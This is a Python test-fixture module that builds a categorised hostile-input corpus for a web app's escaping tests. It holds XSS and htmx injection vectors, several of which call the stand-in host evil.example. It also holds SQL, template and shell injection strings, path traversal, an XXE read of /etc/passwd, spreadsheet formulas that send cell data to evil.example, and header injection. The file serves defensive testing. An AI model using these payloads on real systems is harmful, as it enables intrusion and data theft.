"""The hostile-input corpus: texts that try to break or run in Runde's outputs.

Built from categories (short lists and combinators, not hundreds of literal lines); each
payload keeps its category so a failure names what kind of attack got through. Used by
``tests/test_hostile_input.py`` (every user-text field × form, htmx and JSON × every output)
and by its browser pass (``nastiest``).

Python strings may hold lone surrogates; they cannot travel as UTF-8, so the JSON channel sends
them as ``\\ud800`` escapes (``json.dumps`` with ``ensure_ascii``) and the form channel as the
bytes Python's ``surrogatepass`` makes (invalid UTF-8).
"""

from __future__ import annotations

import itertools
from dataclasses import dataclass

MIB = 1 << 20


@dataclass(frozen=True)
class Payload:
    index: int
    category: str
    text: str

    def __repr__(self) -> str:  # short, for assertion messages
        shown = self.text if len(self.text) <= 60 else self.text[:57] + "…"
        return f"#{self.index}[{self.category}] {shown!r} (len {len(self.text)})"


# --- markup and attribute injection ------------------------------------------------------------

MARKUP_VECTORS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(document.domain)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script>fetch('/api/v1/workshops',{credentials:'include'})</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(\'XSS\')">',
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="9" y="9">x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src="javascript:alert(1)"></iframe>',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>x</textarea>",
    "<x onpointerover=alert(1)>hover me</x>",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="&#106;avascript:alert(1)">click</a>',
    "<template><img src=x onerror=alert(1)></template>",
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="//evil.example/">',
    '<link rel="stylesheet" href="//evil.example/x.css">',
    "<style>body{display:none}</style>",
    '<form action="//evil.example"><button>login</button></form>',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<![CDATA[<script>alert(1)</script>]]>",
    # htmx: injected attributes would fire same-origin requests with the victim's cookies.
    '<div hx-get="/m" hx-trigger="load" hx-target="body">x</div>',
    '<button hx-post="/m/topics/x/delete" hx-trigger="load">x</button>',
    '<div hx-on:click="alert(1)">click</div>',
    '<div hx-on::load="alert(1)">x</div>',
    '<img src=x hx-on:htmx:load="alert(1)">',
    '<div hx-vals=\'js:{a:alert(1)}\' hx-post="/x" hx-trigger="load">x</div>',
    '<div hx-swap-oob="true" id="workshop-head">taken over</div>',
    '<span id="live-seq" hx-swap-oob="true" data-seq="999999"></span>',
    '<div id="flash" hx-swap-oob="innerHTML"><a href="//evil.example">log in again</a></div>',
    '<div ws-send hx-trigger="load">x</div>',
    '<form ws-send hx-trigger="load"><input name="x" value="1"></form>',
    '<div hx-ext="ws" ws-connect="/ws/workshops/x">x</div>',
    '<div hx-boost="true"><a href="/m">x</a></div>',
]

# What a payload may use to leave the context it is written into.
BREAKOUTS = ["", '">', "'>", "</textarea>", "</title>", "</p></li></ol></main>"]

ATTRIBUTE_BREAKOUTS = [
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)" x="',
    '" hx-get="/m" hx-trigger="load" x="',
    "' hx-on:click='alert(1)' x='",
    '" ws-send hx-trigger="load',
    '"/><script>alert(1)</script>',
    "'/><svg onload=alert(1)>",
    '" style="background:url(javascript:alert(1))',
    "` onmouseover=alert(1) `",
    '"><a href="javascript:alert(1)">x</a>',
    '" hx-swap-oob="true" id="topic-tabs',
]

POLYGLOTS = [
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/"
    "</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
    "\"'--></style></script><script>alert(1)</script>",
    "'\"><img src=x onerror=alert(1)>{{7*7}}${7*7}",
    "</script><script>alert(1)</script>",
    "-->\"'><svg/onload=alert(1)>",
]

# --- URLs and markdown -------------------------------------------------------------------------

URLS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(document.cookie)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "javascript&colon;alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/",
    "https://evil.example/?q=<script>alert(1)</script>",
]
URL_FORMS = ["{}", '<a href="{}">x</a>', "[click me]({})", "![image]({})"]

MARKDOWN = [
    "[a]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "[![img](x)](javascript:alert(1))",
    '![x](x "onerror=alert(1)")',
    "**bold** _italic_ `code` ~~strike~~",
    "# Heading\n\n## Another",
    "> quoted\n> text",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | 2 |",
    "```html\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "\\<script\\>alert(1)\\</script\\>",
    "* list\n* <img src=x onerror=alert(1)>",
    '[x](https://example.org "title" onclick=alert(1))',
    "<details><summary>x</summary>y</details>",
    "1. one\n2. two\n---\n___",
    "_<b>x</b>_",
    "[link](<javascript:alert(1)>)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;b&amp;gt;",
]

# --- template injection, SQL, shell, paths -----------------------------------------------------

TEMPLATES = [
    "{{7*7}}",
    "{{ 7*'7' }}",
    "{{ config }}",
    "{{ request }}",
    "{{ request.app.state.secret_key }}",
    "{{ self.__init__.__globals__ }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ csrf_token() }}",
    "{{ _('Save') }}",
    "{% for x in range(3) %}x{% endfor %}",
    "{% raw %}",
    "{% endraw %}",
    "{# unclosed comment",
    "{%- if true -%}yes{%- endif -%}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "${{7*7}}",
    "@(7*7)",
    "*{7*7}",
    "[[7*7]]",
    "{{constructor.constructor('alert(1)')()}}",
    "%(name)s %(max)d",
    "%s%s%s%n",
    "{0} {name} {}",
    "\\{{7*7}}",
    "{{7*7}}<script>alert(1)</script>",
]

SQL = [
    "' OR '1'='1",
    "' OR 1=1 --",
    '" OR 1=1 --',
    "'; DROP TABLE card; --",
    "'); DELETE FROM workshop; --",
    "1; SELECT pg_sleep(5)",
    "1' AND (SELECT 1 FROM pg_sleep(5))--",
    "' UNION SELECT token_hash FROM participant --",
    "admin'--",
    "1' ORDER BY 1--",
    "' || (SELECT version()) || '",
    "$$; DROP TABLE event_log; $$",
    "%' AND 1=1 --",
    "%",
    "_",
    "\\",
    "\\\\'",
    "''''",
    '""',
    "`id`",
    "$(id)",
    "; ls -la",
    "| cat /etc/passwd",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "file:///etc/passwd",
    '{"$ne": null}',
    "x\r\nSet-Cookie: runde_session=stolen",
]

# --- CSV / spreadsheet formulas ----------------------------------------------------------------

FORMULA_PREFIXES = ["=", "+", "-", "@", "\t", "\r"]
FORMULA_BODIES = [
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example/?x="&A1,"click")',
    "SUM(A1:A9)",
    'IMPORTXML(CONCAT("http://evil.example/?",A2),"//a")',
    "2+5+cmd|' /C notepad'!'A1'",
]
FORMULA_EXTRA = [";=1+1", ",=1+1", '"=1+1"', " =1+1", "x\n=1+1", "x\r\n@SUM(1)", "＝1+1"]

# --- control characters, surrogates, special code points ---------------------------------------

C0 = [chr(c) for c in range(0x20) if chr(c) not in "\t\n\r"] + ["\x7f"]
CONTROL_EXTRA = [
    "\x00",
    "\x00<script>alert(1)</script>",
    "abc\x00",
    "\x1b[31mred\x1b[0m",
    "\x08\x08\x08backspaced",
    "tab\tinside",
    "line one\nline two",
    "windows\r\nline",
    "old mac\rline",
    "c1 \x85 next line",
    "c1 \x9b csi",
    "\x1fleading unit separator",
    "trailing file separator\x1c",
]

SURROGATES = [
    "\ud800",
    "\udfff",
    "a\ud800b",
    "\ud83d",
    "\ude00x",
    "\udc00\ud800",
    "x\ud800\ud800\ud800",
    "<script>\ud800</script>",
    "=\udbff1+1",
    "😀\ud83d",
]

SPECIAL_CODE_POINTS = [
    "\ufffd",
    "\ufffe",
    "\uffff",
    "\U0010ffff",
    "\ue000 private use",
    "\U000e0041\U000e0042 tags",
    "<\ufeffscript>alert(1)</script>",
    "]]>",
    "<![CDATA[x]]>",
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "<w:p><w:r><w:t>injected</w:t></w:r></w:p>",
    "<text:p>injected</text:p>",
    "&",
    "<",
    ">",
    '"',
    "'",
    "`",
    "<<>>",
    "</",
    "<!--",
    "-->",
    "<!DOCTYPE html>",
]

BIDI = ["\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069", "\u200e", "\u200f"]
BIDI_FORMS = ["{c}abc", "invoice{c}fdp.exe", "{c}<script>alert(1)</script>"]

ZERO_WIDTH = ["\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u180e", "\u00ad", "\u034f"]
ZERO_WIDTH_FORMS = ["a{c}b", "{c}", "<scr{c}ipt>alert(1)</scr{c}ipt>"]
COMBINING = [
    "e\u0301",
    "a" + "\u0301" * 200,
    "Z\u0334\u0321\u032a\u034e\u0300\u0303a\u0337l\u0338g\u0335o\u0336",
    "\u0e47" * 50,
    "\u1e9b\u0323",
    "\u0301leading combining mark",
    "<\u0338script>alert(1)</script>",
]

EMOJI = [
    "😀",
    "👩‍👩‍👧‍👦",
    "🏳️‍🌈",
    "🇩🇪🇪🇺",
    "👍🏽",
    "🧑🏿‍🦽",
    "❤️",
    "🫠",
    "𝕏𝔸𝕊𝕊",
    "𓀀",
    "﷽",
    "ﷺ",
]
EMOJI_FORMS = ["{e}", "{e} <b>{e}</b>", "{e}" * 50]

LONG = [
    "A" * 80,
    "A" * 81,
    "x" * 200,
    "x" * 201,
    "A" * 1000,
    "A" * 1001,
    "Donaudampfschifffahrtsgesellschaftskapitän" * 23,
    "https://example.org/" + "a" * 970,
    "ä" * 1000,
    "😀" * 1000,
    "<b>" * 333,
    "a\u00ad" * 500,
]
HUGE = ["A" * MIB, "<script>" * (MIB // 8), "😀" * (MIB // 4), "\n" * MIB]

WHITESPACE = [
    "",
    " ",
    "   ",
    "\t",
    "\n",
    "\r\n",
    " \t\n ",
    "\u00a0",
    "\u2003",
    "\u3000",
    "\u2028",
    "\u2029",
    "\u1680",
    "\u205f",
    "\u202f",
    "\u2028<script>alert(1)</script>\u2029",
]

RTL = [
    "مرحبا بالعالم",
    "שלום עולם",
    "abc שלום 123 مرحبا",
    "<script>مرحبا</script>",
    "سلام دنیا",
    "ہیلو دنیا",
    "ܫܠܡܐ",
    "ދިވެހި",
    "ߊߟߎ",
    "\u202bמימין לשמאל\u202c",
    "‏<img src=x onerror=alert(1)>‎",
    "עברית (English) عربي",
    "1 + 1 = ٢",
    "Ⲁⲙⲏⲛ",
    "ⴰⵣⵓⵍ",
]

NORMALISATION_PAIRS = [
    ("é", "e\u0301"),
    ("Å", "A\u030a"),
    ("Å", "\u212b"),
    ("ﬁ", "fi"),
    ("Ⅸ", "IX"),
    ("ｓｃｒｉｐｔ", "script"),
    ("＜script＞alert(1)＜/script＞", "<script>alert(1)</script>"),
    ("ǅ", "Dž"),
    ("ß", "ẞ"),
    ("İ", "i\u0307"),
    ("\u212a", "K"),
    ("Ω", "\u2126"),
    ("가", "\u1100\u1161"),
    ("①", "1"),
    ("x²", "x2"),
    ("µ", "μ"),
    ("…", "..."),
    ("\u00bd", "1/2"),
    ("\uff1cimg src=x onerror=alert(1)\uff1e", "<img src=x onerror=alert(1)>"),
    ("ｊａｖａｓｃｒｉｐｔ：alert(1)", "javascript:alert(1)"),
]


def _categories() -> list[tuple[str, list[str]]]:
    markup = [b + v for b, v in itertools.product(BREAKOUTS, MARKUP_VECTORS)]
    return [
        ("markup", markup),
        ("attribute", ATTRIBUTE_BREAKOUTS),
        ("polyglot", POLYGLOTS),
        ("url", [form.format(url) for form, url in itertools.product(URL_FORMS, URLS)]),
        ("markdown", MARKDOWN),
        ("template", TEMPLATES),
        ("sql", SQL),
        ("formula", [p + b for p, b in itertools.product(FORMULA_PREFIXES, FORMULA_BODIES)] + FORMULA_EXTRA),
        ("control", [f"a{c}b" for c in C0] + CONTROL_EXTRA),
        ("surrogate", SURROGATES),
        ("special", SPECIAL_CODE_POINTS),
        ("bidi", [form.format(c=c) for form, c in itertools.product(BIDI_FORMS, BIDI)]),
        ("zero-width", [form.format(c=c) for form, c in itertools.product(ZERO_WIDTH_FORMS, ZERO_WIDTH)]),
        ("combining", COMBINING),
        ("emoji", [form.format(e=e) for form, e in itertools.product(EMOJI_FORMS, EMOJI)]),
        ("long", LONG),
        ("huge", HUGE),
        ("whitespace", WHITESPACE),
        ("rtl", RTL),
        ("normalisation", [text for pair in NORMALISATION_PAIRS for text in pair]),
    ]


def _build() -> list[Payload]:
    seen: set[str] = set()
    out: list[Payload] = []
    for category, texts in _categories():
        for text in texts:
            if text not in seen:
                seen.add(text)
                out.append(Payload(len(out), category, text))
    return out


PAYLOADS: list[Payload] = _build()
CATEGORIES: list[str] = list(dict.fromkeys(p.category for p in PAYLOADS))


def sample(n: int, *, offset: int = 0) -> list[Payload]:
    """``n`` payloads spread over every category (round robin, from ``offset`` in each), so a
    field tested with a subset still meets every kind of attack; always including the huge ones."""
    by_category = {c: [p for p in PAYLOADS if p.category == c] for c in CATEGORIES}
    chosen: list[Payload] = list(by_category["huge"])
    rounds = itertools.count()
    while len(chosen) < min(n, len(PAYLOADS)):
        r = next(rounds)
        added = False
        for category in CATEGORIES:
            items = by_category[category]
            if r < len(items):
                p = items[(r + offset) % len(items)]
                if p not in chosen:
                    chosen.append(p)
                    added = True
                if len(chosen) >= n:
                    break
        if not added and r > len(PAYLOADS):
            break
    return sorted(chosen, key=lambda p: p.index)


def nastiest(n: int = 100) -> list[Payload]:
    """The payloads a browser would run if anything were rendered unescaped: markup, attribute
    breakouts, polyglots, URLs, then template strings."""
    order = ["polyglot", "attribute", "markup", "url", "markdown", "template", "bidi"]
    ranked = [p for c in order for p in PAYLOADS if p.category == c]
    # Spread over the markup × breakout product instead of taking the first vectors only.
    markup = [p for p in ranked if p.category == "markup"]
    rest = [p for p in ranked if p.category != "markup"]
    head = [p for p in ranked if p.category in ("polyglot", "attribute")]
    picked = head + markup[:: max(1, len(markup) // (n // 2))][: n // 2]
    picked += [p for p in rest if p not in picked][: n - len(picked)]
    return picked[:n]
